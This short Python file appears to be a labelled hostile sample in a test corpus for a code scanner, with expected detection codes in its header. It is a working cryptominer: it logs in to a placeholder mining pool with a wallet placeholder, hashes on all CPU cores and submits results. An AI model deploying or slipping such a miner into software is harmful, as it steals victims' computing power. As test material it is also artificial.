# label: hostile
# expect: V203 V301 V901
# note: Logs in to a mining pool and hashes on all cores.
import hashlib
import json
import multiprocessing as mp
import socket


def mine(job, start, step, out):
    nonce = start
    while True:
        h = hashlib.sha256(hashlib.sha256(job + nonce.to_bytes(8, "little")).digest()).digest()
        if h[-3:] == b"\0\0\0":
            out.put((nonce, h.hex()))
        nonce += step


if __name__ == "__main__":
    pool = socket.create_connection(("pool.example.invalid", 3333))
    pool.sendall(json.dumps({"id": 1, "method": "login", "params": {"login": "WALLET", "pass": "x"}}).encode() + b"\n")
    job = pool.recv(4096)
    q = mp.Queue()
    n = mp.cpu_count()
    for i in range(n):
        mp.Process(target=mine, args=(job, i, n, q)).start()
    while True:
        nonce, digest = q.get()
        pool.sendall(json.dumps({"id": 4, "method": "submit", "params": [nonce, digest]}).encode() + b"\n")
